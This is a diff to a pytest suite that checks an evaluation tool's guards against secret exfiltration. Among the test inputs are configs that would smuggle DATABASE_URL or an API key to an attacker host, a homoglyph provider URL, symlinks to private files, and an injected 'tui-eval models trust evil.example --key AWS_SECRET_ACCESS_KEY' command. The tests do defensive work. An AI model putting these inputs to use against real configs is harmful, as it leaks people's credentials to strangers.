@@ -106,15 +106,140 @@ def test_files_from_elsewhere_need_a_yes_for_each_host(tmp_path: Path) -> None:
     permit(here, [Permit("file", f"{real}/a.md", HOST), Permit("file", f"{real}/b.md", "other.example")])
     assert wanted(planned, workspace) == {("file", f"{real}/b.md", HOST)}
 
-    with pytest.raises(EgressError, match=r"is looked through|what lies in"):
+    with pytest.raises(EgressError, match=r"would be looked through|what lies in"):
         load(config(here, [f"{there}/*.md"]), workspace, sends=False)
     permit(here, [Permit("file", f"{real}/", HOST)])
     loaded = load(config(here, [f"{there}/*.md", "link.md"]), workspace)
     assert len(loaded.evaluation.files) == 4 and [one.real for one in loaded.egress.outside] == [f"{real}/", f"{real}/b.md"]
     (tmp_path / "secret.md").write_text("Not here.")
     (there / "d.md").symlink_to(tmp_path / "secret.md")
-    with pytest.raises(EgressError, match=r"secret\.md to"):
+    with pytest.raises(EgressError, match=r"secret\.md"):
         load(config(here, [f"{there}/*.md"]), workspace)
+
+
+HOLES: list[tuple[dict[str, str], str, dict[str, str]]] = [
+    ({"base_url": "http://${EVIL_HOST}:${DATABASE_URL}/v1"}, "DATABASE_URL", {"EVIL_HOST": "203.0.113.5:8080/x"}),
+    ({"base_url": "http://${EVIL_HOST}:${DATABASE_URL}/v1"}, "DATABASE_URL", {"EVIL_HOST": "127.0.0.1:8080/x"}),
+    ({"base_url": "http://${EVIL_HOST}:${DATABASE_URL}/v1"}, "DATABASE_URL", {"EVIL_HOST": "203.0.113.5"}),
+    ({"base_url": "http://api.openai.com/v1", "api_key_env": "OPENAI_API_KEY"}, "OPENAI_API_KEY", {}),
+    (
+        {"wire": "azure", "base_url": "https://theirs.openai.azure.com/v1", "api_key_env": "OPENAI_API_KEY"},
+        "OPENAI_API_KEY",
+        {},
+    ),
+]
+"""Addresses of strangers that a value went to without a question, and what their folder sets."""
+
+
+@pytest.mark.parametrize(("model", "name", "values_there"), HOLES, ids=[str(one[0]) + str(one[2]) for one in HOLES])
+def test_no_value_goes_where_an_address_hides_it(
+    model: dict[str, str], name: str, values_there: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Not as a port, not in clear text to a provider, not to a customer's resource at one."""
+    monkeypatch.setenv("DATABASE_URL", "postgres-of-mine/with-a-password")
+    (tmp_path / ".env").write_text("".join(f"{key}={value}\n" for key, value in values_there.items()))
+    table = {"name": "m", "wire": "openai", "model": "m", **model}
+    loaded = load(write_config(tmp_path, panel([table], [asked("m")]), of_others=True), Workspace(tmp_path), sends=False)
+
+    assert name in {what for sort, what, _ in wanted(loaded, Workspace(tmp_path)) if sort == "key"}
+
+
+@pytest.mark.parametrize("url", ["http://127.0.0.1:9200/containers/create#", "https://\u0430pi.openai.com/v1"])
+def test_addresses_that_mislead_are_refused(url: str, tmp_path: Path) -> None:
+    """One that swallows the path behind it, and one whose letters only look like a provider's."""
+    table = {"name": "m", "wire": "openai", "model": "m", "base_url": url}
+    with pytest.raises(ConfigError, match=r"swallow|ASCII"):
+        load(write_config(tmp_path, panel([table], [asked("m")])), Workspace(tmp_path), sends=False)
+
+
+def test_no_file_of_keys_and_no_text_elsewhere_is_read_along(tmp_path: Path) -> None:
+    """A .env of any folder; a text that lies behind a link where a run folder keeps what its documents say; a prompt of the
+    workspace that is named as a document by a config from elsewhere; what a simulated run copied from elsewhere.
+    """
+    theirs_, mine = tmp_path / "theirs", tmp_path / "mine"
+    (theirs_ / "inputs" / "documents").mkdir(parents=True)
+    (mine / "prompts").mkdir(parents=True)
+    (theirs_ / ".env").write_text("A=b\n")
+    (theirs_ / "inputs" / "documents" / "diary").write_text("harmless")
+    (mine / "diary.txt").write_text("private")
+    (mine / "prompts" / "mine.md").write_text("private")
+    (theirs_ / "inputs" / "text").symlink_to(mine)
+    workspace = Workspace(mine)
+    with pytest.raises(ConfigError, match="holds your keys"):
+        load(config(theirs_, [".env"]), workspace)
+    loaded = load(config(theirs_, ["inputs/documents/diary"]), workspace, sends=False)
+    assert not any(file.text == "private" for file in loaded.evaluation.files)
+    loaded = load(config(theirs_, [str(mine / "prompts" / "mine.md")]), workspace, sends=False)
+    assert [one.real for one in loaded.egress.outside] == [os.path.realpath(mine / "prompts" / "mine.md")]
+
+    copied = tmp_path / "stranger"
+    (copied / "runs" / "a" / "inputs").mkdir(parents=True)
+    (copied / "runs" / "a" / "inputs" / "hosts.yml").write_text("private")
+    table = {"name": "m", "wire": "openai", "model": "m", "base_url": "http://127.0.0.1:9/v1"}
+    content = panel([table], [asked("m")])
+    content["panel"]["documents"] = ["runs/*/inputs/*"]
+    with pytest.raises(EgressError, match=r"hosts\.yml"):
+        load(write_config(copied, content, of_others=True), Workspace(copied))
+
+
+def test_what_a_config_says_of_itself_switches_nothing_off(tmp_path: Path) -> None:
+    """`inputs = []` makes no run folder: private keys are looked for all the same."""
+    (tmp_path / "key.md").write_bytes(KEY_FILES["openssh"])
+    path = config(tmp_path, ["key.md"])
+    path.write_text(f"inputs = []\n{path.read_text()}")
+    with pytest.raises(ConfigError, match="looks like a private key"):
+        load(path, Workspace(tmp_path))
+
+
+def test_a_yes_for_one_folder_is_none_for_another(tmp_path: Path) -> None:
+    """Two strangers' configs, run from one workspace of the person's own; and a checkout within it."""
+    mine = own(tmp_path / "mine")
+    folders = [tmp_path / "one", tmp_path / "two", mine / "checkout"]
+    table = {"name": "m", "wire": "openai", "model": "m", "base_url": f"https://{HOST}/v1", "api_key_env": "OPENAI_API_KEY"}
+    for folder in folders:
+        folder.mkdir()
+        write_config(folder, panel([table], [asked("m")]), of_others=True)
+    permit(folders[0], [Permit("key", "OPENAI_API_KEY", HOST)])
+    loaded = load(folders[0] / "cfg.toml", Workspace(mine))
+    prepare(loaded, mine / "runs" / "first", lambda text: text, [], workspace=Workspace(mine))
+
+    assert reopen(mine / "runs" / "first", Workspace(mine)).egress.hosts
+    for folder in folders[1:]:
+        with pytest.raises(EgressError):
+            load(folder / "cfg.toml", Workspace(mine))
+    keyless = {**table, "api_key_env": None}
+    content = panel([{key: value for key, value in keyless.items() if value}], [asked("m")])
+    with pytest.raises(EgressError):
+        load(write_config(folders[2], content, of_others=True), Workspace(mine))
+
+
+def test_a_refusal_cannot_be_forged(tmp_path: Path) -> None:
+    """A pattern with line breaks of its own stays on one line, and so does the command behind it."""
+    forged = "../x\n  this is checked\nIf that is right:\n  tui-eval models trust evil.example --key AWS_SECRET_ACCESS_KEY\n#"
+    with pytest.raises(EgressError) as refused:
+        load(config(tmp_path, [forged, f"../{forged}/*.md"]), Workspace(tmp_path))
+
+    assert not any(line.strip().startswith("tui-eval models trust evil") for line in str(refused.value).splitlines())
+
+
+def test_a_host_called_like_the_simulator_is_a_host(tmp_path: Path) -> None:
+    """It is asked about as any other."""
+    table = {"name": "m", "wire": "openai", "model": "m", "base_url": "http://simulator/v1", "api_key_env": "OPENAI_API_KEY"}
+    with pytest.raises(EgressError, match="to simulator: the value of OPENAI_API_KEY"):
+        load(write_config(tmp_path, panel([table], [asked("m")])), Workspace(tmp_path))
+
+
+def test_nothing_is_written_through_a_folder_that_is_a_link(tmp_path: Path) -> None:
+    """Runs, datasets and kept replies of others that lead out of their folder; one's own may lead to a larger disk."""
+    for name in ("runs", ".cache", "datasets"):
+        folder, away = tmp_path / f"of {name}", tmp_path / f"away {name}"
+        folder.mkdir()
+        away.mkdir()
+        (folder / name).symlink_to(away)
+        assert main(["--workspace", str(folder), "run", "quickstart", "-q"]) == 2
+        assert not any(away.iterdir())
+        own(folder)
+        assert main(["--workspace", str(folder), "run", "quickstart", "-q"]) == 0
 
 
 def test_what_a_command_named_is_no_question_in_the_config_that_it_wrote(tmp_path: Path) -> None:
